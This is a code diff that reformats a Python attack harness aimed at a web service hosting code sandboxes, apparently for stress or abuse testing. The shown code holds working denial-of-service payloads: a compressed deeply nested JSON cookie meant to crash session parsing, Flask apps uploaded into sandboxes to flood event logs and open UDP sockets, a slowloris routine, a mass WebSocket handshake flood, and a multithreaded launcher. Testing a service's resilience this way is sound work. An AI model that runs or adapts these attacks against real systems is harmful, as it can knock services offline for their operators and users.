@@ -15,11 +15,17 @@ import threading
 import zlib
 from urllib.parse import urlsplit
 
-SESSION_BOMB = "." + base64.urlsafe_b64encode(
-    zlib.compress(b'{"a":' + b"[" * (1 << 19) + b"]" * (1 << 19) + b"}", 9)).decode().rstrip("=") \
+SESSION_BOMB = (
+    "."
+    + base64.urlsafe_b64encode(
+        zlib.compress(b'{"a":' + b"[" * (1 << 19) + b"]" * (1 << 19) + b"}", 9)
+    )
+    .decode()
+    .rstrip("=")
     + ".AAAA.sig"
+)
 
-BOMBS = f'''from flask import Flask, make_response
+BOMBS = f"""from flask import Flask, make_response
 app = Flask(__name__)
 
 @app.route("/")
@@ -28,9 +34,9 @@ def bombs():
     for i in range(20):
         response.set_cookie(f"bomb{{i}}", {SESSION_BOMB!r})
     return response
-'''
+"""
 
-EVENT_FLOOD = '''import os, stat
+EVENT_FLOOD = """import os, stat
 from flask import Flask
 app = Flask(__name__)
 
@@ -41,9 +47,9 @@ def flood():
     line = b'{"type": "request", "trace": ' + b"[" * 120_000 + b"]" * 120_000 + b"}\\n"
     while True:
         os.write(fd, line)
-'''
+"""
 
-UDP = '''import socket
+UDP = """import socket
 from flask import Flask
 app = Flask(__name__)
 
@@ -54,7 +60,7 @@ def udp():
         return "made one"
     except OSError as e:
         return str(e)
-'''
+"""
 
 
 def connection(url: str, timeout: float = 30) -> http.client.HTTPConnection:
@@ -67,8 +73,9 @@ def call(url: str, method: str, path: str, payload=None, cookie: str | None = No
     conn = connection(url)
     try:
         headers = {"Content-Type": "application/json", **({"Cookie": cookie} if cookie else {})}
-        conn.request(method, path, body=json.dumps(payload) if payload is not None else None,
-                     headers=headers)
+        conn.request(
+            method, path, body=json.dumps(payload) if payload is not None else None, headers=headers
+        )
         response = conn.getresponse()
         data = response.read()
         return response.status, response.getheader("Set-Cookie"), data
@@ -105,25 +112,33 @@ def presenter_tokens(url: str, stop: threading.Event) -> int:
 
 def sandbox_loop(code: str, path: str = "/", extra=None):
     """An attack from inside a sandbox: run `code`, hit `path`, again and again."""
+
     def attack(url: str, stop: threading.Event) -> int:
         n = 0
         _, cookie, _ = call(url, "GET", "/api/snippets")
         cookie = cookie.split(";", 1)[0]
         while not stop.is_set():
-            status, _, data = call(url, "POST", "/api/sandboxes", {"files": {"app.py": code}},
-                                   cookie)
+            status, _, data = call(
+                url, "POST", "/api/sandboxes", {"files": {"app.py": code}}, cookie
+            )
             if status != 201:
                 stop.wait(2)
                 continue
             sandbox = json.loads(data)
             for _ in range(5):
-                call(url, "POST", f"/api/sandboxes/{sandbox['id']}/requests",
-                     {"method": "GET", "path": path}, cookie)
+                call(
+                    url,
+                    "POST",
+                    f"/api/sandboxes/{sandbox['id']}/requests",
+                    {"method": "GET", "path": path},
+                    cookie,
+                )
                 if extra:
                     extra(url, sandbox, cookie)
                 n += 1
             call(url, "DELETE", f"/api/sandboxes/{sandbox['id']}", cookie=cookie)
         return n
+
     return attack
 
 
@@ -158,9 +173,12 @@ def slowloris(url: str, stop: threading.Event, connections: int = 520) -> int:
 def sockets(url: str, stop: threading.Event, connections: int = 600) -> int:
     """Hundreds of WebSocket handshakes without a cookie, over and over."""
     parts, n = urlsplit(url), 0
-    request = (b"GET /ws/follow?presence=1 HTTP/1.1\r\nHost: " + parts.netloc.encode()
-               + b"\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
-               b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n")
+    request = (
+        b"GET /ws/follow?presence=1 HTTP/1.1\r\nHost: "
+        + parts.netloc.encode()
+        + b"\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
+        b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
+    )
     while not stop.is_set():
         held = []
         for _ in range(connections):
@@ -203,8 +221,13 @@ def main() -> None:
     stop = threading.Event()
     signal.signal(signal.SIGTERM, lambda *_: stop.set())
     struck: dict[str, int] = {}
-    threads = [threading.Thread(target=lambda name=name: struck.setdefault(
-        name, ATTACKS[name](args.url, stop)), daemon=True) for name in args.attacks.split(",")]
+    threads = [
+        threading.Thread(
+            target=lambda name=name: struck.setdefault(name, ATTACKS[name](args.url, stop)),
+            daemon=True,
+        )
+        for name in args.attacks.split(",")
+    ]
     for thread in threads:
         thread.start()
     stop.wait()
